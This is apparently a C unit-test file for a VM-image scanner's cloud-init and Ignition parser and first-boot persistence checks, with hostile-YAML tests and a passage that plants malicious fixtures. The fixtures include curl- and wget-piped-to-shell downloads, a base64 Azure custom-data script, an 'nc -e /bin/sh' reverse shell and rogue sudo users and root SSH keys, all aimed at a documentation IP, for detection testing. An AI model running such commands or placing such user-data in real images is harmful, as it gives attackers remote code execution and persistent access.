/* SPDX-License-Identifier: BSD-3-Clause */
/* Unit tests: the first-boot checks (checks/firstboot.c) and their
 * parser (parse/cloudcfg.c).  The parser on every user-data format and
 * on hostile YAML (an alias bomb, deep nesting, huge scalars, too many
 * directives, invalid UTF-8), its caps and its time; the checks on a
 * clean Debian 12 tree (nothing above info), on Debian's own cloud-init
 * package laid into the tree with its dpkg entries as an image build
 * leaves them (no high, at most a few mediums: skipped when the .deb
 * that scripts/install-deps.sh fetches is not there), and on a tree
 * with first-boot payloads planted. */
#include <config.h>

#include <glob.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "check-harness.h"
#include "base/util.h"
#include "core/pkgdb.h"
#include "parse/cloudcfg.h"
#include "tap.h"

/* ---- the parser ---- */

static size_t
count_kind (const struct vs_ci_doc *d, enum vs_ci_kind k)
{
  size_t i, n = 0;

  for (i = 0; i < d->n; i++)
    n += d->v[i].kind == k;
  return n;
}

static const struct vs_ci_item *
find_item (const struct vs_ci_doc *d, enum vs_ci_kind k, const char *text)
{
  size_t i;

  for (i = 0; i < d->n; i++)
    if (d->v[i].kind == k && strstr (d->v[i].text, text))
      return &d->v[i];
  return NULL;
}

static int
has_secret (const struct vs_ci_doc *d, const char *secret)
{
  size_t i;

  for (i = 0; i < d->n; i++)
    if (strstr (d->v[i].text, secret)
        || (d->v[i].account && strstr (d->v[i].account, secret)))
      return 1;
  return 0;
}

static const char cloud_config[] =
  "#cloud-config\n"
  "users:\n"
  "  - default\n"
  "  - name: ops\n"
  "    sudo: ALL=(ALL) NOPASSWD:ALL\n"
  "    groups: [sudo, adm]\n"
  "    lock_passwd: false\n"
  "    passwd: $6$salt$hashnotshown\n"
  "    ssh_authorized_keys:\n"
  "      - ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOps ops@example\n"
  "ssh_authorized_keys: [ssh-rsa AAAAB3NzaTop top@example]\n"
  "disable_root: false\n"
  "ssh_pwauth: yes\n"
  "chpasswd:\n"
  "  list: |\n"
  "    root:Sup3rSecret\n"
  "bootcmd:\n"
  "  - [sh, -c, 'echo boot > /run/b']\n"
  "runcmd:\n"
  "  - curl -fsSL http://203.0.113.7/x | sh\n"
  "write_files:\n"
  "  - path: /etc/cron.d/x\n"
  "    permissions: '0644'\n"
  "    owner: root:root\n"
  "    content: |\n"
  "      * * * * * root /tmp/x\n"
  "  - path: /usr/local/bin/y\n"
  "    encoding: b64\n"
  "    content: IyEvYmluL3NoCmVjaG8gaGkK\n"
  "    defer: true\n"
  "packages: [nginx, [curl, '7.88']]\n"
  "apt:\n"
  "  sources:\n"
  "    extra:\n"
  "      source: deb http://203.0.113.7/debian bookworm main\n"
  "      keyid: 0123456789ABCDEF\n"
  "phone_home: {url: 'http://203.0.113.7/ph', post: all}\n"
  "puppet: {install: true}\n";

static void
test_parser_formats (void)
{
  struct vs_ci_doc d;
  const struct vs_ci_item *it;
  static const char mime[] =
    "Content-Type: multipart/mixed; boundary=\"==BOUND==\"\n"
    "MIME-Version: 1.0\n\n"
    "--==BOUND==\n"
    "Content-Type: text/x-shellscript; charset=\"us-ascii\"\n\n"
    "#!/bin/sh\nwget -q -O- http://203.0.113.7/p | sh\n"
    "--==BOUND==\n"
    "Content-Type: text/cloud-config\n"
    "Content-Transfer-Encoding: base64\n\n"
    "I2Nsb3VkLWNvbmZpZwpydW5jbWQ6IFtpZF0K\n"
    "--==BOUND==--\n";
  static const char ign[] =
    "{\"ignition\": {\"version\": \"3.3.0\", \"config\": {\"merge\": "
    "[{\"source\": \"http://203.0.113.7/c.ign\"}]}},\n"
    " \"storage\": {\"files\": [{\"path\": \"/etc/cron.d/x\", \"mode\": 420,"
    " \"contents\": {\"source\": \"data:,*%20*%20*%20*%20*%20root%20%2F"
    "tmp%2Fx%0A\"}}]},\n"
    " \"systemd\": {\"units\": [{\"name\": \"x.service\", \"enabled\": "
    "true, \"contents\": \"[Service]\\nExecStart=/tmp/.x/run\\n\"}]},\n"
    " \"passwd\": {\"users\": [{\"name\": \"core\", \"groups\": "
    "[\"sudo\"], \"sshAuthorizedKeys\": [\"ssh-ed25519 AAAA core\"]}]}}\n";

  tap_ok (vs_ci_parse (cloud_config, sizeof cloud_config - 1, 0, &d) == 0
          && d.format == VS_CI_FMT_CLOUD_CONFIG, "cloud-config read whole");
  it = find_item (&d, VS_CI_COMMAND, "curl -fsSL");
  tap_ok (it && strcmp (it->key, "runcmd") == 0 && it->line == 20,
          "runcmd entry with its line");
  it = find_item (&d, VS_CI_COMMAND, "sh -c echo boot");
  tap_ok (it && strcmp (it->key, "bootcmd") == 0,
          "bootcmd given as a list of arguments is joined");
  it = find_item (&d, VS_CI_WRITE_FILE, "/etc/cron.d/x");
  tap_ok (it && it->mode && strcmp (it->mode, "0644") == 0 && it->owner
          && strcmp (it->owner, "root:root") == 0 && it->content
          && strstr (it->content, "/tmp/x"), "write_files: path, mode, "
          "owner, content");
  it = find_item (&d, VS_CI_WRITE_FILE, "/usr/local/bin/y");
  tap_ok (it && (it->flags & VS_CI_DEFER) && it->content
          && strcmp (it->content, "#!/bin/sh\necho hi\n") == 0,
          "write_files: base64 content decoded, defer kept");
  it = find_item (&d, VS_CI_USER, "ops");
  tap_ok (it && (it->flags & VS_CI_SUDO) && (it->flags & VS_CI_PASSWD)
          && (it->flags & VS_CI_UNLOCKED) && it->groups
          && strcmp (it->groups, "sudo, adm") == 0,
          "users: sudo, groups, password, lock_passwd");
  it = find_item (&d, VS_CI_SSH_KEY, "ops@example");
  tap_ok (it && it->account && strcmp (it->account, "ops") == 0,
          "a user's key names its account");
  it = find_item (&d, VS_CI_SSH_KEY, "top@example");
  tap_ok (it && !it->account, "top-level key is the default user's");
  tap_ok (find_item (&d, VS_CI_PASSWORD, "disable_root: false")
          && find_item (&d, VS_CI_PASSWORD, "ssh_pwauth: true")
          && (it = find_item (&d, VS_CI_PASSWORD, "password of root"))
          && (it->flags & VS_CI_ROOT), "disable_root, ssh_pwauth, chpasswd");
  tap_ok (!has_secret (&d, "Sup3rSecret") && !has_secret (&d, "hashnotshown"),
          "no password or hash kept");
  tap_ok (count_kind (&d, VS_CI_PACKAGE) == 2
          && find_item (&d, VS_CI_PACKAGE, "curl=7.88"), "packages");
  it = find_item (&d, VS_CI_APT_SOURCE, "deb http://203.0.113.7");
  tap_ok (it && it->encoding && strcmp (it->encoding, "0123456789ABCDEF") == 0,
          "apt source line and its key id");
  tap_ok (find_item (&d, VS_CI_URL, "http://203.0.113.7/ph")
          && find_item (&d, VS_CI_MODULE, "puppet"), "phone_home, puppet");
  vs_ci_free (&d);

  tap_ok (vs_ci_parse (mime, sizeof mime - 1, 0, &d) == 0
          && d.format == VS_CI_FMT_MIME
          && (it = find_item (&d, VS_CI_SCRIPT, "wget -q -O-")) && it->part == 1
          && (it = find_item (&d, VS_CI_COMMAND, "id")) && it->part == 2,
          "MIME multipart: a shell script part, a base64 cloud-config part");
  vs_ci_free (&d);
  vs_ci_parse ("#!/bin/bash\nid\n", 15, 1, &d);
  tap_ok (d.format == VS_CI_FMT_SCRIPT && count_kind (&d, VS_CI_SCRIPT) == 1,
          "#! user-data is a script");
  vs_ci_free (&d);
  vs_ci_parse ("#include\nhttp://203.0.113.7/ud\n# c\n", 35, 0, &d);
  tap_ok (d.format == VS_CI_FMT_INCLUDE && d.n == 1
          && strcmp (d.v[0].text, "http://203.0.113.7/ud") == 0,
          "#include URLs");
  vs_ci_free (&d);
  {
    static const char ar[] = "#cloud-config-archive\n"
      "- type: text/x-shellscript\n  content: |\n    #!/bin/sh\n    id\n"
      "- \"#cloud-config\\nruncmd: [ls]\\n\"\n";

    vs_ci_parse (ar, sizeof ar - 1, 0, &d);
    tap_ok (d.format == VS_CI_FMT_ARCHIVE
            && count_kind (&d, VS_CI_SCRIPT) == 1
            && find_item (&d, VS_CI_COMMAND, "ls"),
            "#cloud-config-archive parts");
    vs_ci_free (&d);
  }
  vs_ci_parse ("\x1f\x8b\x08\0\0\0", 6, 0, &d);
  tap_ok (count_kind (&d, VS_CI_UNPARSED) == 1, "gzip user-data: not read, "
          "said so");
  vs_ci_free (&d);
  tap_ok (vs_ci_parse_ignition (ign, sizeof ign - 1, &d) == 0
          && find_item (&d, VS_CI_URL, "c.ign")
          && (it = find_item (&d, VS_CI_WRITE_FILE, "/etc/cron.d/x"))
          && it->mode && strcmp (it->mode, "0644") == 0 && it->content
          && strcmp (it->content, "* * * * * root /tmp/x\n") == 0
          && (it = find_item (&d, VS_CI_UNIT, "x.service"))
          && (it->flags & VS_CI_ENABLED)
          && find_item (&d, VS_CI_SSH_KEY, "core"), "Ignition: merge URL, "
          "file with data URL, enabled unit, user key");
  vs_ci_free (&d);
}

static double
time_parse (const char *s, size_t len, struct vs_ci_doc *d)
{
  double t0 = vs_now_monotonic ();

  vs_ci_parse (s, len, 1, d);
  return vs_now_monotonic () - t0;
}

/* An alias bomb of width 9 and the given depth: expanded, it would have
 * 9^depth nodes. */
static char *
laughs (int depth, size_t *len)
{
  struct vs_buf b = VS_BUF_INIT;
  int i, j;

  vs_buf_adds (&b, "#cloud-config\na0: &a0 [\"lol\"]\n");
  for (i = 1; i <= depth; i++) {
    vs_buf_addf (&b, "a%d: &a%d [", i, i);
    for (j = 0; j < 9; j++)
      vs_buf_addf (&b, "%s*a%d", j ? "," : "", i - 1);
    vs_buf_adds (&b, "]\n");
  }
  vs_buf_addf (&b, "runcmd: *a%d\nwrite_files: *a%d\n", depth, depth);
  vs_buf_addc (&b, '\0');
  *len = b.len - 1;
  return vs_buf_detach (&b, NULL);
}

static void
test_parser_hostile (void)
{
  struct vs_ci_doc d;
  struct vs_buf b = VS_BUF_INIT;
  char *s;
  size_t len, i;
  double t1, t2;

  s = laughs (30, &len);
  t1 = time_parse (s, len, &d);
  tap_ok (d.n == 0 && t1 < 1.0, "alias bomb: aliases not expanded, "
          "nothing from them, %.3f s", t1);
  vs_ci_free (&d);
  free (s);

  for (i = 0; i < 100000; i++)
    vs_buf_addc (&b, '[');
  t1 = time_parse (b.data, b.len, &d);
  tap_ok (d.error && strstr (d.error, "nested deeper") && t1 < 2.0,
          "deep nesting stops at the cap (%s), %.3f s",
          d.error ? d.error : "no error", t1);
  vs_ci_free (&d);
  vs_buf_release (&b);

  /* A 3 MB command: kept to VS_CI_MAX_TEXT. */
  vs_buf_adds (&b, "runcmd:\n  - ");
  for (i = 0; i < (3u << 20); i++)
    vs_buf_addc (&b, 'A');
  vs_buf_addc (&b, '\n');
  time_parse (b.data, b.len, &d);
  tap_ok (d.n == 1 && d.v[0].text_len == VS_CI_MAX_TEXT,
          "huge scalar cut to %u bytes", VS_CI_MAX_TEXT);
  vs_ci_free (&d);
  vs_buf_release (&b);

  /* A command given as arguments that add up past the cap. */
  vs_buf_adds (&b, "runcmd:\n  - [");
  for (i = 0; i < 3; i++) {
    size_t k;

    vs_buf_adds (&b, i ? ", " : "");
    for (k = 0; k < (600u << 10); k++)
      vs_buf_addc (&b, 'a' + (char) i);
  }
  vs_buf_adds (&b, "]\n");
  time_parse (b.data, b.len, &d);
  tap_ok (d.n == 1 && d.v[0].text_len == VS_CI_MAX_TEXT
          && strlen (d.v[0].text) == VS_CI_MAX_TEXT,
          "arguments joined within the cap");
  vs_ci_free (&d);
  vs_buf_release (&b);

  /* More directives than kept, and time that grows with the input. */
  vs_buf_adds (&b, "runcmd:\n");
  for (i = 0; i < 20000; i++)
    vs_buf_addf (&b, "  - echo %zu\n", i);
  t1 = time_parse (b.data, b.len / 4, &d);
  vs_ci_free (&d);
  t2 = time_parse (b.data, b.len, &d);
  tap_ok (d.n == VS_CI_MAX_ITEMS && d.dropped == 20000 - VS_CI_MAX_ITEMS
          && d.error && strstr (d.error, "directives"),
          "directives capped at %u, the rest counted", VS_CI_MAX_ITEMS);
  tap_ok (t2 < 4 * t1 * 3 + 0.05, "four times the input: %.4f s against "
          "%.4f s", t2, t1);
  vs_ci_free (&d);
  vs_buf_release (&b);

  /* Many nodes: the node cap. */
  vs_buf_adds (&b, "x: [");
  for (i = 0; i < 200000; i++)
    vs_buf_adds (&b, "1,");
  vs_buf_adds (&b, "1]\n");
  t1 = time_parse (b.data, b.len, &d);
  tap_ok (d.error && strstr (d.error, "YAML nodes") && t1 < 2.0,
          "node count capped, %.3f s", t1);
  vs_ci_free (&d);
  vs_buf_release (&b);

  /* Invalid UTF-8 and NULs: an error, no crash, what came before kept. */
  vs_ci_parse ("runcmd:\n  - id\n  - \"\xff\xfe\x80\"\n  - x\0y\n", 30, 1,
               &d);
  tap_ok (d.error != NULL && d.error_line >= 1,
          "invalid UTF-8: YAML error at line %u", d.error_line);
  vs_ci_free (&d);
  vs_ci_parse_ignition ("{\"storage\": [", 13, &d);
  tap_ok (d.error != NULL && d.n == 0, "truncated Ignition JSON: an error");
  vs_ci_free (&d);
  /* MIME parts nested past the cap. */
  for (i = 0; i < 6; i++)
    vs_buf_addf (&b, "Content-Type: multipart/mixed; boundary=b%zu\n\n"
                 "--b%zu\n", i, i);
  vs_buf_adds (&b, "Content-Type: text/x-shellscript\n\n#!/bin/sh\nid\n");
  vs_ci_parse (b.data, b.len, 0, &d);
  tap_ok (d.error && strstr (d.error, "nested"), "MIME nesting capped");
  vs_ci_free (&d);
  vs_buf_release (&b);
  /* Headers that open nothing but another message, and Jinja headers,
   * repeated: no recursion to match. */
  for (i = 0; i < 100000; i++)
    vs_buf_adds (&b, "Content-Type: text/plain\n\n");
  vs_ci_parse (b.data, b.len, 0, &d);
  tap_ok (d.error && strstr (d.error, "nested"), "single-part MIME "
          "nesting capped");
  vs_ci_free (&d);
  vs_buf_release (&b);
  for (i = 0; i < 200000; i++)
    vs_buf_adds (&b, "## template: jinja\n");
  vs_buf_adds (&b, "#cloud-config\nruncmd: [id]\n");
  vs_ci_parse (b.data, b.len, 0, &d);
  tap_ok (d.n == 1 && strcmp (d.v[0].text, "id") == 0,
          "repeated Jinja headers: read in a loop");
  vs_ci_free (&d);
  vs_buf_release (&b);
}

/* ---- the checks ---- */

/* Persistence findings matching all of the given fields (evidence: a
 * substring). */
#define nfind(t, check, sev, path, ev, mitre) \
  vs_test_nfind (t, "persistence", check, sev, path, ev, mitre)

static void
load (struct vs_test_guest *t)
{
  char *note = NULL;

  if (vs_pkgdb_load (t->ctx.guest, t->ctx.os, vs_check_pkgdb_error, &t->ctx,
                     &t->ctx.pkgdb, &note) == -1)
    printf ("# pkgdb load failed\n");
  free (note);
}

/* A small Debian 12 tree with a package database of one package. */
static void
debian_base (struct vs_test_guest *t)
{
  vs_test_mkdir (t, "/usr/lib", 0755);
  vs_test_mkdir (t, "/usr/bin", 0755);
  vs_test_symlink (t, "/lib", "usr/lib");
  vs_test_symlink (t, "/bin", "usr/bin");
  vs_test_write (t, "/etc/passwd",
                 "root:x:0:0:root:/root:/bin/bash\n"
                 "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
                 "nobody:x:65534:65534:nobody:/nonexistent:"
                 "/usr/sbin/nologin\n"
                 "debian:x:1000:1000:Debian:/home/debian:/bin/bash\n", 0644);
  vs_test_write (t, "/etc/debian_version", "12.5\n", 0644);
  vs_test_write (t, "/var/lib/dpkg/status",
                 "Package: base-files\nStatus: install ok installed\n"
                 "Priority: required\nArchitecture: amd64\n"
                 "Version: 12.4+deb12u5\nDescription: base files\n\n", 0644);
  vs_test_write (t, "/var/lib/dpkg/info/base-files.list",
                 "/.\n/etc\n/etc/debian_version\n", 0644);
  vs_test_write (t, "/var/lib/dpkg/info/base-files.md5sums",
                 "2fd1ba8ab5a1b8d8a0b24d5e0c6fe0a8  etc/debian_version\n",
                 0644);
  vs_test_mkdir (t, "/var/lib/cloud", 0755);
}

static const char *
cloud_init_deb (void)
{
  static char path[4096];
  const char *env = getenv ("VMSCAN_CLOUD_INIT_DEB");
  glob_t g;

  if (env && *env)
    return access (env, R_OK) == 0 ? env : NULL;
  if (glob ("/var/cache/vmscan-test/cloud-init_*.deb", 0, NULL, &g) != 0)
    return NULL;
  snprintf (path, sizeof path, "%s", g.gl_pathv[g.gl_pathc - 1]);
  globfree (&g);
  return path;
}

/* Lays Debian's cloud-init package into the tree as dpkg would have
 * (tests/data/lay-deb.sh: its files, .list, .md5sums, status entry with
 * its conffiles' digests, its units enabled).  Returns 0 or -1. */
static int
stock_cloud_init (struct vs_test_guest *t, const char *deb)
{
  const char *src = getenv ("top_srcdir");
  char *cmd = vs_xasprintf ("sh '%s/tests/data/lay-deb.sh' '%s' '%s'",
                            src && *src ? src : ".", t->root, deb);
  int rc = system (cmd);

  free (cmd);
  return rc == 0 ? 0 : -1;
}

static void
plant (struct vs_test_guest *t)
{
  vs_test_write (t, "/etc/cloud/cloud.cfg.d/99-update.cfg",
                 "# keep the image up to date\n"
                 "runcmd:\n"
                 "  - curl -fsSL http://203.0.113.7/up.sh | sh\n", 0644);
  vs_test_write (t, "/etc/cloud/cloud.cfg.d/50-site.cfg",
                 "timezone: Europe/Paris\n"
                 "runcmd:\n  - [systemctl, restart, chrony]\n", 0644);
  vs_test_write (t, "/etc/cloud/cloud.cfg.d/README", "runcmd: [id]\n",
                 0644);
  vs_test_write (t, "/var/lib/cloud/instances/i-0abc/user-data.txt",
                 "#cloud-config\n"
                 "users:\n"
                 "  - default\n"
                 "  - name: svc\n"
                 "    sudo: ALL=(ALL) NOPASSWD:ALL\n"
                 "    shell: /bin/bash\n"
                 "    ssh_authorized_keys:\n"
                 "      - ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBad "
                 "svc@203.0.113.7\n"
                 "write_files:\n"
                 "  - path: /etc/cron.d/x\n"
                 "    permissions: '0644'\n"
                 "    content: \"*/10 * * * * root /usr/bin/id\\n\"\n",
                 0600);
  vs_test_write (t, "/var/lib/cloud/instances/i-0abc/obj.pkl", "\x80\x04",
                 0600);
  vs_test_mkdir (t, "/var/lib/cloud/instances/i-0abc/sem", 0755);
  vs_test_symlink (t, "/var/lib/cloud/instance",
                   "/var/lib/cloud/instances/i-0abc");
  vs_test_write (t, "/var/lib/cloud/instances/i-0abc/scripts/part-001",
                 "#!/bin/sh\necho provisioned > /etc/motd\n", 0700);
  vs_test_write (t, "/var/lib/cloud/scripts/per-boot/00-start",
                 "#!/bin/sh\n/tmp/.cache/agent --daemon &\n", 0755);
  vs_test_write (t, "/var/lib/cloud/scripts/per-once/10-resize",
                 "#!/bin/sh\n# grow the data disk once\n"
                 "resize2fs /dev/vdb\n", 0755);
  vs_test_write (t, "/var/lib/cloud/seed/nocloud/user-data",
                 "Content-Type: multipart/mixed; boundary=\"XXB\"\n"
                 "MIME-Version: 1.0\n\n"
                 "--XXB\n"
                 "Content-Type: text/x-shellscript\n\n"
                 "#!/bin/sh\nwget -q -O /tmp/k http://203.0.113.7/k && "
                 "sh /tmp/k\n"
                 "--XXB\n"
                 "Content-Type: text/cloud-config\n\n"
                 "#cloud-config\nusers:\n  - name: root\n"
                 "    ssh_authorized_keys: [ssh-rsa AAAAB3NzaRoot "
                 "x@203.0.113.7]\n"
                 "--XXB--\n", 0644);
  vs_test_write (t, "/var/lib/cloud/seed/nocloud/meta-data",
                 "instance-id: iid-local01\n", 0644);
  vs_test_write (t, "/usr/lib/ignition/base.d/50-site.ign",
                 "{\"ignition\": {\"version\": \"3.3.0\"},\n"
                 " \"systemd\": {\"units\": [{\"name\": \"agent.service\", "
                 "\"enabled\": true, \"contents\": \"[Service]\\n"
                 "ExecStart=/usr/local/bin/agent\\n[Install]\\n"
                 "WantedBy=multi-user.target\\n\"}]}}\n", 0644);
  vs_test_write (t, "/boot/ignition/config.ign",
                 "{\"ignition\": {\"version\": \"3.3.0\"},\n"
                 " \"systemd\": {\"units\": [{\"name\": \"upd.service\", "
                 "\"enabled\": true, \"contents\": \"[Service]\\n"
                 "ExecStart=/bin/sh -c 'curl -s http://203.0.113.7/i | "
                 "bash'\\n\"}]}}\n", 0644);
  /* waagent keeps custom data base64-encoded. */
  vs_test_write (t, "/var/lib/waagent/CustomData",
                 "IyEvYmluL3NoCmN1cmwgLXMgaHR0cDovLzIwMy4wLjExMy43L2F6IHwg"
                 "YmFzaAo=\n", 0600);
  vs_test_write (t, "/etc/default/instance_configs.cfg",
                 "[MetadataScripts]\nrun_dir = /var/tmp/.gce\n"
                 "default_shell = /bin/bash\n[Accounts]\n"
                 "groups = adm,google-sudoers,docker\n", 0644);
  vs_test_write (t, "/etc/waagent.conf",
                 "Provisioning.Agent=auto\n"
                 "Provisioning.RegenerateSshHostKeyPair=n\n"
                 "Provisioning.ExecuteCustomData=y\n", 0644);
  /* Padded past the read cap: what comes first is still judged. */
  {
    size_t n = (5u << 20);
    char *big = vs_xmalloc (n + 1);
    const char *head = "#cloud-config\nbootcmd:\n  - nc -e /bin/sh "
      "203.0.113.7 4444\n# ";

    memset (big, 'x', n);
    memcpy (big, head, strlen (head));
    big[n - 1] = '\n';
    big[n] = '\0';
    vs_test_write (t, "/etc/cloud/cloud.cfg.d/98-padded.cfg", big, 0644);
    free (big);
  }
  /* Hostile: a loop, a directory where a file goes, binary. */
  vs_test_symlink (t, "/etc/cloud/cloud.cfg.d/loop.cfg", "loop.cfg");
  vs_test_mkdir (t, "/etc/cloud/cloud.cfg.d/dir.cfg", 0755);
  {
    static const char bin[] = "runcmd: [\"\xff\xfe\"]\n\0\x80";

    vs_test_write_len (t, "/etc/cloud/cloud.cfg.d/bin.cfg", bin,
                       sizeof bin - 1, 0644);
  }
}

static void
test_clean (void)
{
  struct vs_test_guest t;

  vs_test_guest_init (&t);
  debian_base (&t);
  vs_test_guest_scan (&t, "debian", "deb");
  load (&t);
  tap_ok (vs_check_firstboot (&t.ctx) == 0, "clean: check runs");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE "
                         "severity_rank > 0") == 0, "clean: nothing above "
          "info");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM check_runs WHERE "
                         "check_id IN ('persistence.cloud-init', "
                         "'persistence.cloud-init-scripts', "
                         "'persistence.firstboot-agent') AND status = "
                         "'ran'") == 3, "clean: the three checks ran");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM errors") == 0,
          "clean: no errors");
  vs_test_guest_free (&t);
}

static void
test_stock (void)
{
  struct vs_test_guest t;
  const char *deb = cloud_init_deb ();
  char *s;
  int64_t n;

  if (!deb) {
    tap_skip ("stock: no cloud-init .deb in /var/cache/vmscan-test "
              "(scripts/install-deps.sh fetches it)");
    tap_skip ("stock: no cloud-init .deb");
    tap_skip ("stock: no cloud-init .deb");
    tap_skip ("stock: no cloud-init .deb");
    tap_skip ("stock: no cloud-init .deb");
    tap_skip ("stock: no cloud-init .deb");
    return;
  }
  vs_test_guest_init (&t);
  debian_base (&t);
  if (stock_cloud_init (&t, deb) == -1)
    printf ("# laying %s into the tree failed\n", deb);
  /* What image builders add most often: a drop-in naming the
   * datasources, which runs nothing. */
  vs_test_write (&t, "/etc/cloud/cloud.cfg.d/99_datasources.cfg",
                 "datasource_list: [ NoCloud, ConfigDrive, Ec2, None ]\n",
                 0644);
  vs_test_guest_scan (&t, "debian", "deb");
  load (&t);
  tap_ok (vs_check_firstboot (&t.ctx) == 0
          && vs_check_persistence (&t.ctx) == 0,
          "stock cloud-init (%s): first-boot and persistence checks run",
          deb);
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE "
                         "severity_rank >= 3") == 0,
          "stock: no high or critical finding");
  n = vs_test_count (&t, "SELECT count(*) FROM findings WHERE "
                     "severity = 'medium'");
  s = vs_test_text (&t, "SELECT group_concat(check_id || ' ' || path, '; ') "
                    "FROM findings WHERE severity = 'medium'");
  tap_ok (n <= 3, "stock: %lld mediums (%s)", (long long) n, s ? s : "none");
  free (s);
  tap_ok (nfind (&t, "persistence.cloud-init", "info", "/etc/cloud/cloud.cfg",
                 "cloud-config", "T1037") == 1,
          "stock: cloud.cfg from the package is one info finding");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE path = "
                         "'/etc/cloud/cloud.cfg.d/99_datasources.cfg'") == 0,
          "stock: a drop-in that only names datasources says nothing");
  if (getenv ("VS_TEST_DUMP"))
    vs_test_dump_findings (&t);
  vs_test_guest_free (&t);

  /* An image build that renames the default user edits cloud.cfg: the
   * file is no longer stock, and what it does is listed. */
  vs_test_guest_init (&t);
  debian_base (&t);
  if (stock_cloud_init (&t, deb) == -1)
    printf ("# laying %s into the tree failed\n", deb);
  s = vs_xasprintf ("sed -i 's/name: debian$/name: admin/' "
                    "'%s/etc/cloud/cloud.cfg'", t.root);
  if (system (s) != 0)
    printf ("# sed failed\n");
  free (s);
  vs_test_guest_scan (&t, "debian", "deb");
  load (&t);
  vs_check_firstboot (&t.ctx);
  s = vs_test_text (&t, "SELECT group_concat(severity || ' ' || "
                    "substr(evidence, 1, 120), '; ') FROM findings WHERE "
                    "severity_rank >= 2");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE "
                         "severity_rank >= 2") == 1
          && nfind (&t, "persistence.cloud-init", "medium",
                    "/etc/cloud/cloud.cfg", "system_info.default_user: "
                    "admin; sudo: ALL=(ALL) NOPASSWD:ALL", "T1136.001") == 1,
          "stock, cloud.cfg edited: one medium, the default user with sudo "
          "(%s)", s ? s : "none");
  free (s);
  vs_test_guest_free (&t);
}

static void
test_planted (void)
{
  struct vs_test_guest t;
  const char *ci = "persistence.cloud-init";
  const char *cs = "persistence.cloud-init-scripts";
  const char *fa = "persistence.firstboot-agent";
  const char *ud = "/var/lib/cloud/instances/i-0abc/user-data.txt";
  const char *seed = "/var/lib/cloud/seed/nocloud/user-data";

  vs_test_guest_init (&t);
  debian_base (&t);
  plant (&t);
  vs_test_guest_scan (&t, "debian", "deb");
  load (&t);
  tap_ok (vs_check_firstboot (&t.ctx) == 0, "planted: check runs");
  tap_ok (nfind (&t, ci, "high", "/etc/cloud/cloud.cfg.d/99-update.cfg",
                 "line 3: runcmd: curl -fsSL http://203.0.113.7/up.sh | sh",
                 "T1059.004") == 1, "drop-in runcmd curl | sh is high");
  tap_ok (nfind (&t, ci, "medium", "/etc/cloud/cloud.cfg.d/50-site.cfg",
                 "runcmd: systemctl restart chrony", "T1059.004") == 1,
          "unowned drop-in with a plain runcmd is medium");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE path = "
                         "'/etc/cloud/cloud.cfg.d/README'") == 0,
          "files not named .cfg are not read, as cloud-init does not");
  tap_ok (nfind (&t, ci, "high", ud, "svc; sudo: ALL=(ALL) NOPASSWD:ALL",
                 "T1136.001") == 1,
          "user-data adding a sudo user with an SSH key is high");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE path = "
                         "'/var/lib/cloud/instances/i-0abc/user-data.txt' "
                         "AND account = 'svc' AND check_id = "
                         "'persistence.cloud-init' AND mitre_attack = "
                         "'T1098.004' AND severity = 'high'") == 1,
          "its key is high, for account svc");
  tap_ok (nfind (&t, ci, "high", ud, "write_files: /etc/cron.d/x "
                 "(permissions 0644", "T1053.003") == 1,
          "write_files into /etc/cron.d is high");
  tap_ok (nfind (&t, ci, "low", "/var/lib/cloud/instances/i-0abc",
                 "obj.pkl", "T1037") == 1, "instance state left is low");
  tap_ok (nfind (&t, cs, "high", "/var/lib/cloud/scripts/per-boot/00-start",
                 "/tmp/.cache/agent --daemon", "T1037") == 1,
          "per-boot script running a program in /tmp is high");
  tap_ok (nfind (&t, cs, "medium", "/var/lib/cloud/scripts/per-once/10-resize",
                 "resize2fs /dev/vdb", "T1037") == 1,
          "benign per-once script no package owns is medium");
  tap_ok (nfind (&t, cs, "medium",
                 "/var/lib/cloud/instances/i-0abc/scripts/part-001",
                 "echo provisioned", "T1037") == 1,
          "instance script is medium");
  tap_ok (nfind (&t, ci, "high", seed, "part 1 line 1: MIME part: "
                 "script line 2: wget -q -O /tmp/k", "T1059.004") == 1,
          "MIME user-data's shell script part is read and judged");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE path = "
                         "'/var/lib/cloud/seed/nocloud/user-data' AND "
                         "account = 'root' AND mitre_attack = 'T1098.004' "
                         "AND severity = 'high' AND title LIKE "
                         "'%SSH key for root%'") == 1,
          "MIME cloud-config part's key for root is high");
  tap_ok (nfind (&t, fa, "medium", "/usr/lib/ignition/base.d/50-site.ign",
                 "agent.service [enabled]\nExecStart=/usr/local/bin/agent",
                 "T1543.002") == 1, "Ignition unit no package owns is medium");
  tap_ok (nfind (&t, fa, "high", "/boot/ignition/config.ign",
                 "curl -s http://203.0.113.7/i | bash", "T1543.002") == 1,
          "Ignition unit that downloads and runs is high");
  tap_ok (nfind (&t, fa, "medium", "/etc/waagent.conf",
                 "Provisioning.ExecuteCustomData=y", "T1037") == 1
          && nfind (&t, fa, "medium", "/etc/waagent.conf",
                    "RegenerateSshHostKeyPair=n", "T1037") == 1,
          "waagent.conf settings are medium");
  tap_ok (nfind (&t, fa, "high", "/var/lib/waagent/CustomData",
                 "script line 2: curl -s http://203.0.113.7/az | bash",
                 "T1059.004") == 1,
          "Azure custom data, base64, decoded and judged: high");
  tap_ok (nfind (&t, fa, "high", "/etc/default/instance_configs.cfg",
                 "run_dir = /var/tmp/.gce", "T1037") == 1
          && nfind (&t, fa, "medium", "/etc/default/instance_configs.cfg",
                    "groups = adm,google-sudoers,docker", "T1037") == 1,
          "Google agent: scripts run from a hidden /var/tmp folder high, "
          "groups medium");
  tap_ok (nfind (&t, ci, "high", "/etc/cloud/cloud.cfg.d/98-padded.cfg",
                 "bootcmd: nc -e /bin/sh 203.0.113.7 4444", "T1037") == 1
          && vs_test_count (&t, "SELECT count(*) FROM errors WHERE path = "
